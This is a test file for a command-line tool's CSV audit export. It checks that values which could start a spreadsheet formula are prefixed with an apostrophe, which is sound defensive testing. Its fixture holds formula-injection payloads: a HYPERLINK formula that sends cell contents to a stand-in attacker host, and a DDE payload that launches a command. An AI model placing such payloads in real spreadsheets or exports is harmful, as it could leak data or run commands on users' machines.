// The CSV audit carries text from the description (operationIds, tags, scope values), which a spreadsheet would run
// as a formula when a cell starts with =, +, -, @, a tab or a carriage return: such cells get a leading ' (OWASP), and
// a cell holding ; (which some spreadsheets split on) is quoted, so no cell of any row starts a formula.
import { describe, expect, it } from "vitest";
import { neutralise } from "../../../../generator/emit/text.js";
import { CSV_COLUMNS } from "../../../../generator/reports/audit/csv.js";
import { runCli } from "../../../support/cli.js";
import { parseCsv } from "../../../support/csv.js";
import { description, secured, writeJson } from "../../../support/descriptions.js";
import { tempDir } from "../../../support/project.js";

const FORMULA_START = /^[=+\-@\t\r]/;

describe("CSV formula injection", () => {
  it("neutralises each formula-starting character and leaves other text alone", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(neutralise(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const text of ["GET", "/tasks/{id}", "red", "", "'already", " =spaced", "a=b"])
      expect(neutralise(text)).toBe(text);
  });

  it("no cell of a hostile description's audit starts a formula; each keeps its text after the '", async () => {
    const hostile = description({
      "GET /x": {
        ...secured,
        operationId: '=HYPERLINK("https://evil.example/?"&A1,"click")',
        tags: ["@SUM(1+1)", "+cmd", "safe;=cmd|' /C calc'!A0"],
        "x-nersc-scope": "-2+3",
      },
      "GET /y": { ...secured, operationId: "\tlooks-indented", tags: ["\rcr"], "x-nersc-scope": "green" },
    });
    const run = await runCli([
      "audit",
      "--format",
      "csv",
      "--color",
      "green",
      "--file",
      writeJson(tempDir("csv-"), "hostile.json", hostile),
    ]);
    expect(run.code, run.stderr).toBe(0);
    const [header, ...rows] = parseCsv(run.stdout);
    expect(header).toEqual([...CSV_COLUMNS]);
    const cell = (row: string[], column: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(column)];
    const [x, y] = rows as [string[], string[]];

    expect(cell(x, "operationId")).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`);
    expect(cell(x, "tags")).toBe("'@SUM(1+1);+cmd;safe;=cmd|' /C calc'!A0");
    expect(cell(x, "scope")).toBe("'-2+3");
    expect(cell(x, "level")).toBe("red");
    expect(cell(x, "unranked")).toBe('x-nersc-scope "-2+3" is not on the ladder');
    expect(cell(y, "operationId")).toBe("'\tlooks-indented");
    // A bare carriage return would overwrite the line on a terminal: printed as \u000d (after the ').
    expect(cell(y, "tags")).toBe("'\\u000dcr");
    expect(x.slice(0, 3)).toEqual(["GET", "/x", cell(x, "name")]);

    for (const row of rows) for (const text of row) expect(text, JSON.stringify(text)).not.toMatch(FORMULA_START);
    // The tags cell holds ";" and is quoted, so a spreadsheet splitting on ";" still sees one cell starting with '.
    expect(run.stdout).toContain(`"'@SUM(1+1);+cmd;safe;=cmd|' /C calc'!A0"`);
  });
});
